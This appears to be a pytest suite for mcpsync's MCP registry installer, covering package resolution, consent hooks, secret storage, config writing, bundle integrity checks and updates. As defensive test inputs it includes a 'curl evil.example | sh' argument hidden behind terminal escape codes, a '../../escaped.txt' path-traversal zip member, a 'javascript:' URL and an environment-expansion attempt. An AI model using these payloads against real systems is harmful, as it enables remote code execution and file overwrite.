"""Installing from a local registry: the resolver (every registryType, arguments, variables, formats), SEP-1024
consent (no hook -> nothing; refused -> no process, no file), secrets only in the credential store, the
configuration writer (each format, other content kept), mcpb bundles (built here from the bundled example
server: verified before anything runs, unsafe ones refused), outdated/update, and hostile server.json."""

from __future__ import annotations

import hashlib
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import mcpsync
import mcpsync.registry
from mcpsync import Manager
from mcpsync.manager.config import load_config
from mcpsync.registry import (
    ConsentRefused,
    ConsentRequired,
    IntegrityError,
    InvalidInput,
    MissingInput,
    RegistryClient,
    RegistryError,
    install,
    outdated,
    resolve,
    update,
)
from mcpsync.registry.inputs import inputs_from

from tests.conftest import fuzz_examples
from tests.peers.httpserver import MCPTestServer
from tests.peers.registryserver import RegistryServer, entry, fixture

EXAMPLE_DIR = Path(mcpsync.__file__).parent / "example_server"


def fake_which(*present):
    return lambda program: "/usr/bin/" + program if program in present else None


@pytest.fixture(autouse=True)
def isolated(tmp_path, monkeypatch):
    """Every test gets its own credential store, data and cache directories (nothing touches the user's)."""
    monkeypatch.setenv("MCPSYNC_AUTH_FILE", str(tmp_path / "store" / "mcp-auth.json"))
    monkeypatch.setenv("MCPSYNC_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("MCPSYNC_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.delenv("MCPSYNC_AUTH_STORE", raising=False)
    monkeypatch.delenv("MCPSYNC_REGISTRY_URL", raising=False)


def build_bundle(*, traversal: bool = False) -> bytes:
    """An .mcpb zip of mcpsync's bundled example server (stdlib only), with a manifest (v0.3 layout)."""
    buf = io.BytesIO()
    manifest = {
        "manifest_version": "0.3",
        "name": "example-bundle",
        "version": "1.0.0",
        "description": "mcpsync's example server",
        "author": {"name": "mcpsync tests"},
        "server": {
            "type": "python",
            "entry_point": "server/example_server/__main__.py",
            "mcp_config": {
                "command": sys.executable,
                "args": ["-m", "example_server", "--log-level", "${user_config.log_level}"],
                "env": {"PYTHONPATH": "${__dirname}/server", "EXAMPLE_TOKEN": "${user_config.token}"},
            },
        },
        "user_config": {
            "log_level": {"type": "string", "title": "Log level", "default": "INFO", "required": False},
            "token": {"type": "string", "title": "Token", "sensitive": True, "required": True},
        },
    }
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("manifest.json", json.dumps(manifest))
        for path in sorted(EXAMPLE_DIR.glob("*.py")):
            zf.write(path, "server/example_server/" + path.name)
        if traversal:
            zf.writestr("../../escaped.txt", "owned")
    return buf.getvalue()


def bundle_entry(registry: RegistryServer, data: bytes, sha: str) -> dict:
    doc = json.loads(json.dumps(fixture("mcpb-example.json")).replace("{REGISTRY}", registry.url)
                     .replace("{SHA256}", sha))
    registry.files["example.mcpb"] = data
    return entry(doc)


# ---------------------------------------------------------------------------- resolver


def test_resolve_every_package_type_and_argument_kind():
    which = fake_which("npx", "docker", "uvx", "dnx")
    npm = resolve(fixture("npm-everything.json"), inputs_from(), which=which)
    assert npm.command == ["npx", "-y", "@modelcontextprotocol/server-everything@2026.8.31", "stdio"]
    pypi = resolve(fixture("pypi-time.json"), inputs_from({"local-timezone": "Europe/Paris"}), which=which)
    assert pypi.command == ["uvx", "mcp-server-time@2026.10.19", "--local-timezone=Europe/Paris"]
    assert not pypi.install_steps
    oci = resolve(fixture("oci-weather.json"), inputs_from(
        {"WEATHER_API_KEY": "k3y", "cache_dir": "/tmp/c", "city": ["Paris", "Oslo"], "--verbose": "yes",
         "UNITS": "imperial"}), which=which)
    assert oci.command == [
        "docker", "run", "-i", "--rm", "--network=bridge", "--mount=type=bind,src=/tmp/c,dst=/cache",
        "-e", "WEATHER_API_KEY", "-e", "UNITS", "ghcr.io/acme/weather-mcp:1.2.0",
        "--verbose", "--retries=3", "Paris", "Oslo",
    ]
    assert oci.env == {"WEATHER_API_KEY": "${secret:weather/WEATHER_API_KEY}", "UNITS": "imperial"}
    assert oci.secrets == {"weather/WEATHER_API_KEY": "k3y"}
    assert "k3y" not in json.dumps(oci.answers)
    nuget = dict(fixture("npm-everything.json"), packages=[{
        "registryType": "nuget", "identifier": "Acme.Mcp", "version": "1.0.0", "transport": {"type": "stdio"},
        "packageArguments": [{"type": "named", "name": "-p", "value": "8080"}]}])
    assert resolve(nuget, inputs_from(), which=which).command == ["dnx", "Acme.Mcp@1.0.0", "--yes", "--", "-p", "8080"]


def test_runtime_hint_is_honoured_when_on_path():
    doc = fixture("npm-everything.json")
    doc["packages"][0].update(runtimeHint="bunx", runtimeArguments=[{"type": "positional", "value": "--bun"}])
    assert resolve(doc, inputs_from(), which=fake_which("npx", "bunx")).command[:2] == ["bunx", "--bun"]
    assert resolve(doc, inputs_from(), which=fake_which("npx")).command[:2] == ["npx", "-y"]


def test_pypi_without_uvx_uses_a_virtualenv(tmp_path):
    r = resolve(fixture("pypi-time.json"), inputs_from(), which=fake_which(), data_dir=str(tmp_path))
    venv = r.venv
    assert venv and venv.startswith(str(tmp_path))
    assert r.install_steps[0] == [sys.executable, "-m", "venv", venv]
    assert r.install_steps[1][-1] == "mcp-server-time==2026.10.19" and "--index-url" not in r.install_steps[1]
    assert r.command == [os.path.join(venv, "bin", "mcp-server-time"), "--local-timezone=UTC"]


def test_inputs_formats_choices_defaults_and_missing():
    doc = fixture("oci-weather.json")
    base = {"WEATHER_API_KEY": "k", "cache_dir": "/c", "city": "Rome"}
    with pytest.raises(MissingInput, match="WEATHER_API_KEY"):
        resolve(doc, inputs_from({"cache_dir": "/c", "city": "Rome"}), which=fake_which("docker"))
    with pytest.raises(InvalidInput, match="not one of metric, imperial"):
        resolve(doc, inputs_from(dict(base, UNITS="kelvin")), which=fake_which("docker"))
    with pytest.raises(InvalidInput, match="not a number"):
        resolve(doc, inputs_from(dict(base, retries="many")), which=fake_which("docker"))
    with pytest.raises(InvalidInput, match="one value"):
        resolve(doc, inputs_from(dict(base, UNITS=["metric", "imperial"])), which=fake_which("docker"))
    r = resolve(doc, inputs_from(dict(base, verbose="false", retries="1.5e1")), which=fake_which("docker"))
    assert "--verbose" not in r.command and "--retries=1.5e1" in r.command
    # environment variables answer env inputs for non-interactive use
    r = resolve(doc, inputs_from({"cache_dir": "/c", "city": "Rome"}, environ={"WEATHER_API_KEY": "from-env"}),
                which=fake_which("docker"))
    assert r.secrets == {"weather/WEATHER_API_KEY": "from-env"}


def test_remote_url_variables_and_headers():
    asked = []

    def callback(request):
        asked.append((request.name, request.kind, request.secret, request.choices))
        return {"host": "t1.example.com", "port": "8443", "token": "s3cret", "path": None}.get(request.name)

    r = resolve(fixture("remote-tenant.json"), callback)
    assert r.kind == "remote" and r.transport == "http"
    assert r.url == "http://t1.example.com:8443/mcp"
    # the secret variable is stored once, under its own name, and referenced inside the public header text
    assert r.headers == {"Authorization": "Bearer ${secret:tenant-remote/token}", "X-Team": "core"}
    assert r.secrets == {"tenant-remote/token": "s3cret"}
    assert ("token", "variable", True, ()) in asked and ("path", "url", False, ("mcp", "v2/mcp")) in asked
    with pytest.raises(InvalidInput, match="not a number"):
        resolve(fixture("remote-tenant.json"), inputs_from({"host": "h", "port": "80/evil", "token": "t"}))
    # the draft's URL that starts with a variable ({baseUrl}/mcp): inserted as is, and must be http(s)
    draft = {"name": "io.github.acme/d", "version": "1", "description": "d", "remotes": [
        {"type": "streamable-http", "url": "{baseUrl}/mcp", "variables": {"baseUrl": {"isRequired": True}}}]}
    assert resolve(draft, inputs_from({"baseUrl": "https://a.example.com/x"})).url == "https://a.example.com/x/mcp"
    with pytest.raises(RegistryError, match="not an http"):
        resolve(draft, inputs_from({"baseUrl": "javascript:alert(1)"}))


def test_dollar_signs_from_a_server_json_are_never_expanded(tmp_path, monkeypatch):
    monkeypatch.setenv("VICTIM_SECRET", "do-not-leak")
    doc = fixture("npm-everything.json")
    doc["packages"][0]["packageArguments"] = [{"type": "positional", "value": "${env:VICTIM_SECRET}"}]
    r = resolve(doc, inputs_from(), which=fake_which("npx"))
    cfg = tmp_path / "mcp.json"
    from mcpsync.registry.writer import write_server

    write_server(cfg, r, {"name": "x/y", "version": "1"})
    loaded = load_config(cfg)["server-everything"]
    assert loaded.command[-1] == "${env:VICTIM_SECRET}"


def test_prefer_remote_when_no_runtime():
    doc = dict(fixture("npm-everything.json"), remotes=[{"type": "sse", "url": "https://e.example.com/sse"}])
    assert resolve(doc, inputs_from(), which=fake_which()).kind == "remote"
    assert resolve(doc, inputs_from(), which=fake_which("npx")).kind == "stdio"
    assert resolve(doc, inputs_from(), which=fake_which("npx"), prefer="remote").transport == "sse"


_junk = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=12),
    lambda kids: st.lists(kids, max_size=3) | st.dictionaries(st.sampled_from([
        "name", "version", "packages", "remotes", "registryType", "identifier", "transport", "type", "url",
        "packageArguments", "runtimeArguments", "environmentVariables", "headers", "variables", "value",
        "valueHint", "isRequired", "isSecret", "isRepeated", "format", "choices", "default", "runtimeHint",
        "fileSha256", "postInstallInstructions"]), kids, max_size=6),
    max_leaves=30,
)


@settings(max_examples=fuzz_examples(2000, 300), deadline=None)
@given(doc=_junk, mutate=st.sampled_from(["packages", "remotes", None]))
def test_junk_server_json_raises_only_registry_errors(doc, mutate):
    if isinstance(doc, dict) and mutate:
        doc = dict(fixture("oci-weather.json" if mutate == "packages" else "remote-tenant.json"), **{mutate: doc.get(
            mutate, [doc])})
    try:
        resolve(doc, inputs_from({}, fallback=lambda r: "1" if r.format == "number" else "https://x.example"),
                which=fake_which("npx", "docker", "uvx", "dnx"))
    except RegistryError:
        pass


# ---------------------------------------------------------------------------- consent


def test_no_hook_and_no_yes_means_nothing_happens(tmp_path):
    with RegistryServer([entry(fixture("npm-everything.json"))]) as registry:
        with pytest.raises(ConsentRequired):
            install("io.github.modelcontextprotocol/server-everything", registry=registry.url,
                    config=tmp_path / "mcp.json")
        assert registry.requests == []  # not even the registry was asked
    assert not (tmp_path / "mcp.json").exists()


def test_refused_consent_runs_nothing_and_writes_nothing(tmp_path, monkeypatch):
    started = []

    def no_process(*args, **kwargs):
        started.append(args)
        raise AssertionError("a process was started: %r" % (args,))

    monkeypatch.setattr(subprocess, "Popen", no_process)
    seen = []
    with RegistryServer([entry(fixture("pypi-time.json")), entry(fixture("oci-weather.json"))]) as registry:
        for name, inputs in [("io.github.modelcontextprotocol/time", {}),
                             ("io.github.acme/weather", {"WEATHER_API_KEY": "k3y", "cache_dir": "/c", "city": "X"})]:
            with pytest.raises(ConsentRefused):
                install(name, registry=registry.url, config=tmp_path / "mcp.json", inputs=inputs,
                        approve=lambda req: seen.append(req) or False, which=fake_which("docker"))
    assert started == [] and not (tmp_path / "mcp.json").exists()
    assert not (tmp_path / "data" / "registry").exists()  # no virtualenv was made
    assert not (tmp_path / "store").exists()  # the secret was not stored
    pypi_req, oci_req = seen
    assert pypi_req.install_steps[0][:3] == (sys.executable, "-m", "venv")
    assert oci_req.command[0] == "docker" and oci_req.env_names == ("UNITS", "WEATHER_API_KEY")
    assert "k3y" not in oci_req.describe()


def test_the_hook_sees_the_exact_untruncated_command(tmp_path):
    long_value = "x" * 5000
    doc = fixture("npm-everything.json")
    doc["packages"][0]["packageArguments"].append({"type": "named", "name": "--blob", "value": long_value})
    doc["packages"][0]["environmentVariables"] = [{"name": "API_KEY", "isSecret": True, "isRequired": True}]
    seen = []
    result = install(doc, config=tmp_path / "mcp.json", inputs={"API_KEY": "k"}, which=fake_which("npx"),
                     approve=lambda req: seen.append(req) or True)
    (req,) = seen
    assert req.command == ("npx", "-y", "@modelcontextprotocol/server-everything@2026.8.31", "stdio",
                           "--blob=" + long_value)
    assert req.env_names == ("API_KEY",)
    text = req.describe()
    assert "--blob=" + long_value in text and "DANGER" in text and "API_KEY" in text and "k\n" not in text
    assert result.consent is req
    assert "cannot check" not in text
    hashed = fixture("npm-everything.json")
    hashed["packages"][0]["fileSha256"] = "ab" * 32
    seen.clear()
    install(hashed, config=tmp_path / "other.json", which=fake_which("npx"), approve=lambda r: seen.append(r) or True)
    assert "fileSha256 %s; npx fetches it itself, so mcpsync cannot check" % ("ab" * 32) in seen[0].describe()


def test_post_install_instructions_are_shown_never_run(tmp_path):
    marker = tmp_path / "ran"
    doc = fixture("npm-everything.json")
    doc["packages"][0]["postInstallInstructions"] = [
        {"description": "Log in first", "command": "touch %s" % marker, "optional": False}]
    result = install(doc, config=tmp_path / "mcp.json", which=fake_which("npx"), yes=True)
    assert result.post_install_instructions == [
        {"description": "Log in first", "command": "touch %s" % marker, "optional": False}]
    assert not marker.exists()


# ---------------------------------------------------------------------------- writing configurations


@pytest.mark.parametrize("filename, initial, servers_path", [
    ("claude_desktop_config.json", {"mcpServers": {"keep": {"command": "x"}}, "globalShortcut": "Ctrl+K"},
     ["mcpServers"]),
    (".vscode/mcp.json", {"inputs": [], "servers": {"keep": {"type": "stdio", "command": "x"}}}, ["servers"]),
    ("opencode.json", {"$schema": "https://opencode.ai/config.json", "theme": "dark",
                       "mcp": {"keep": {"type": "local", "command": ["x"]}}}, ["mcp"]),
    ("mcpsync.json", {"keep": {"command": ["x"]}}, []),
])
def test_writes_each_format_keeping_other_content(tmp_path, filename, initial, servers_path):
    path = tmp_path / filename
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(initial))
    os.chmod(path, 0o640)
    with RegistryServer([entry(fixture("oci-weather.json"))]) as registry:
        result = install("io.github.acme/weather", registry=registry.url, config=path, yes=True,
                         inputs={"WEATHER_API_KEY": "k3y", "cache_dir": "/c", "city": "Rome"},
                         which=fake_which("docker"))
    data = json.loads(path.read_text())
    servers = data
    for key in servers_path:
        servers = servers[key]
    assert "keep" in servers and "weather" in servers
    for key, value in initial.items():
        if key not in ("mcpServers", "servers", "mcp", "keep"):
            assert data[key] == value
    assert os.stat(path).st_mode & 0o777 == 0o640
    assert "k3y" not in path.read_text()
    cfg = load_config(path)["weather"]
    assert cfg.command == list(result.consent.command)
    assert cfg.env == {"WEATHER_API_KEY": "k3y", "UNITS": "metric"}  # the secret came from the store
    from mcpsync.registry.writer import installed_servers

    ((name, meta),) = [item for item in installed_servers(path)]
    assert (name, meta["name"], meta["version"]) == ("weather", "io.github.acme/weather", "1.2.0")


def test_an_existing_name_or_a_commented_file_is_refused(tmp_path):
    cfg = tmp_path / "mcp.json"
    install(fixture("npm-everything.json"), config=cfg, which=fake_which("npx"), yes=True)
    with pytest.raises(mcpsync.ConfigError, match="already has"):
        install(fixture("npm-everything.json"), config=cfg, which=fake_which("npx"), yes=True)
    commented = tmp_path / "settings.json"
    commented.write_text('{// a comment\n "mcpServers": {}}')
    with pytest.raises(mcpsync.ConfigError, match="comments"):
        install(fixture("npm-everything.json"), config=commented, which=fake_which("npx"), yes=True)
    assert commented.read_text() == '{// a comment\n "mcpServers": {}}'


# ---------------------------------------------------------------------------- secrets, end to end


def test_a_secret_never_reaches_a_file_and_the_manager_resolves_it(tmp_path):
    token = "tok-" + "9" * 24
    server = MCPTestServer().start()
    server.faults.require_token = token
    try:
        with RegistryServer([entry(fixture("remote-tenant.json"))]) as registry:
            cfg = tmp_path / "project" / ".mcp.json"
            install("io.github.acme/tenant-remote", registry=registry.url, config=cfg, yes=True,
                    inputs={"host": "127.0.0.1", "port": str(server.port), "token": token})
        for path in tmp_path.rglob("*"):
            if path.is_file() and path.name != "mcp-auth.json":
                assert token.encode() not in path.read_bytes(), path
        entry_text = json.loads(cfg.read_text())["mcpServers"]["tenant-remote"]
        assert entry_text["headers"]["Authorization"] == "Bearer ${secret:tenant-remote/token}"
        store = tmp_path / "store" / "mcp-auth.json"
        assert os.stat(store).st_mode & 0o777 == 0o600
        with Manager(str(cfg)) as mgr:
            assert mgr.call_tool("tenant-remote_echo", {"message": "hi"}).text == "hi"
    finally:
        server.stop()


# ---------------------------------------------------------------------------- mcpb bundles


def test_mcpb_verified_unpacked_and_started(tmp_path):
    data = build_bundle()
    sha = hashlib.sha256(data).hexdigest()
    cfg = tmp_path / "mcpsync.json"
    with RegistryServer() as registry:
        registry.entries.append(bundle_entry(registry, data, sha))
        seen = []
        result = install("io.github.mcpsync/example-bundle", registry=registry.url, config=cfg,
                         inputs={"token": "bundle-secret"}, approve=lambda r: seen.append(r) or True)
    (req,) = seen
    assert req.sha256 == sha and req.download_url.endswith("/bundles/example.mcpb")
    install_dir = req.command[0] and result.server.env["PYTHONPATH"][: -len("/server")]
    assert req.command == (sys.executable, "-m", "example_server", "--log-level", "INFO")
    assert Path(install_dir, "server", "example_server", "__main__.py").is_file()
    assert "bundle-secret" not in cfg.read_text()
    with Manager(str(cfg)) as mgr:
        assert mgr.call_tool("example-bundle_echo", {"message": "from a bundle"}).text == "from a bundle"


def test_mcpb_with_a_wrong_hash_is_refused_before_anything(tmp_path):
    data = build_bundle()
    cfg = tmp_path / "mcpsync.json"
    asked = []
    with RegistryServer() as registry:
        registry.entries.append(bundle_entry(registry, data, "0" * 64))
        with pytest.raises(IntegrityError, match="does not match"):
            install("io.github.mcpsync/example-bundle", registry=registry.url, config=cfg,
                    inputs={"token": "t"}, approve=lambda r: asked.append(r) or True)
    assert asked == [] and not cfg.exists() and not (tmp_path / "data" / "registry").exists()


def test_mcpb_with_path_traversal_is_refused(tmp_path):
    data = build_bundle(traversal=True)
    cfg = tmp_path / "mcpsync.json"
    with RegistryServer() as registry:
        registry.entries.append(bundle_entry(registry, data, hashlib.sha256(data).hexdigest()))
        with pytest.raises(IntegrityError, match="unsafe member"):
            install("io.github.mcpsync/example-bundle", registry=registry.url, config=cfg,
                    inputs={"token": "t"}, yes=True)
    assert not cfg.exists() and not list(tmp_path.rglob("escaped.txt"))


# ---------------------------------------------------------------------------- outdated and update


def test_outdated_and_update_reuse_the_previous_answers(tmp_path):
    v1 = fixture("oci-weather.json")
    v2 = json.loads(json.dumps(v1).replace("1.2.0", "1.3.0"))
    cfg = tmp_path / "mcp.json"
    with RegistryServer([entry(v1, latest=False), entry(v2)]) as registry:
        install("io.github.acme/weather@1.2.0", registry=registry.url, config=cfg, yes=True,
                inputs={"WEATHER_API_KEY": "k3y", "cache_dir": "/c", "city": ["Rome", "Oslo"], "UNITS": "imperial"},
                which=fake_which("docker"))
        (item,) = outdated(cfg)
        assert (item.config_name, item.installed, item.latest, item.outdated) == ("weather", "1.2.0", "1.3.0", True)
        with pytest.raises(ConsentRequired):
            update(cfg)
        (result,) = update(cfg, approve=lambda r: True, which=fake_which("docker"))
        assert outdated(cfg) == []
    assert "ghcr.io/acme/weather-mcp:1.3.0" in result.consent.command
    loaded = load_config(cfg)["weather"]
    assert loaded.command[-2:] == ["Rome", "Oslo"] and loaded.env["UNITS"] == "imperial"
    assert loaded.env["WEATHER_API_KEY"] == "k3y"


def test_registry_client_can_be_passed_and_the_name_overridden(tmp_path):
    cfg = tmp_path / "mcp.json"
    with RegistryServer([entry(fixture("npm-everything.json"))]) as registry:
        with RegistryClient(registry.url, cache_dir=False) as client:
            result = install("io.github.modelcontextprotocol/server-everything", registry=client, config=cfg,
                             yes=True, name="everything", which=fake_which("npx"))
    assert result.config_name == "everything" and "everything" in json.loads(cfg.read_text())["mcpServers"]


_manifest = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=16) | st.sampled_from(
        ["${__dirname}/x", "${user_config.k}", "${user_config.missing}", "${HOME}", "node", "python"]),
    lambda kids: st.lists(kids, max_size=3) | st.dictionaries(st.sampled_from([
        "server", "mcp_config", "command", "args", "env", "type", "entry_point", "user_config", "k", "sensitive",
        "required", "default", "multiple", "platform_overrides", "linux", "darwin", "win32"]), kids, max_size=5),
    max_leaves=25,
)


@settings(max_examples=fuzz_examples(1000, 200), deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(manifest=_manifest | st.binary(max_size=40))
def test_junk_bundles_raise_only_registry_errors(tmp_path, manifest):
    from mcpsync.registry import mcpb

    doc = json.loads(json.dumps(fixture("mcpb-example.json")).replace("{REGISTRY}", "https://x.example")
                     .replace("{SHA256}", "ab" * 32))
    bundle = tmp_path / "b.mcpb"
    if isinstance(manifest, bytes):
        bundle.write_bytes(manifest)
    else:
        with zipfile.ZipFile(bundle, "w") as zf:
            zf.writestr("manifest.json", json.dumps(manifest))
    resolved = resolve(doc, inputs_from({}, fallback=lambda r: "v"))
    try:
        mcpb.plan(resolved, str(bundle), str(tmp_path / "dir"))
    except RegistryError:
        return
    assert all(isinstance(a, str) for a in resolved.command) and resolved.command


def test_update_answers_secret_variables_from_the_store(tmp_path):
    token = "tok-update-1"
    v1 = fixture("remote-tenant.json")
    v2 = json.loads(json.dumps(v1).replace('"version": "2.0.0"', '"version": "2.1.0"'))
    cfg = tmp_path / "mcp.json"
    server = MCPTestServer().start()
    server.faults.require_token = token
    try:
        with RegistryServer([entry(v1, latest=False), entry(v2)]) as registry:
            install("io.github.acme/tenant-remote@2.0.0", registry=registry.url, config=cfg, yes=True,
                    inputs={"host": "127.0.0.1", "port": str(server.port), "token": token})
            asked = []
            (result,) = update(cfg, yes=True, inputs=lambda request: asked.append(request.name))
        assert asked == [] and result.consent.version == "2.1.0"
        assert token not in cfg.read_text()
        with Manager(str(cfg)) as mgr:
            assert mgr.call_tool("tenant-remote_echo", {"message": "updated"}).text == "updated"
    finally:
        server.stop()


def test_a_deprecated_server_is_installable_with_its_warning_and_a_deleted_one_is_not(tmp_path):
    old = fixture("deprecated-old.json")
    gone = dict(old, name="io.github.acme/gone")
    seen = []
    with RegistryServer([entry(old, "deprecated", message="use io.github.acme/weather"),
                         entry(gone, "deleted", message="malware")]) as registry:
        install("io.github.acme/old-weather", registry=registry.url, config=tmp_path / "mcp.json",
                approve=lambda r: seen.append(r) or True)
        with pytest.raises(mcpsync.registry.RegistryNotFound, match="malware"):
            install("io.github.acme/gone", registry=registry.url, config=tmp_path / "mcp.json", yes=True)
    assert seen[0].status == "deprecated"
    assert "WARNING: this server is deprecated: use io.github.acme/weather" in seen[0].describe()
    assert seen[0].url == "https://old.example.com/sse"


def test_the_approval_text_cannot_be_rewritten_by_terminal_control_characters(tmp_path):
    doc = fixture("npm-everything.json")
    doc["packages"][0]["packageArguments"] = [
        {"type": "positional", "value": "ok\x1b[2K\rcurl evil.example | sh"},
        {"type": "positional", "value": "\u202eevil"},
    ]
    seen = []
    with pytest.raises(ConsentRefused):
        install(doc, config=tmp_path / "mcp.json", which=fake_which("npx"), approve=lambda r: seen.append(r) or False)
    text = seen[0].describe()
    assert "\x1b" not in text and "\r" not in text and "\u202e" not in text
    assert "\\x1b[2K\\rcurl evil.example | sh" in text and "\\u202eevil" in text
    assert seen[0].command[-2] == "ok\x1b[2K\rcurl evil.example | sh"  # the hook still gets the exact argument
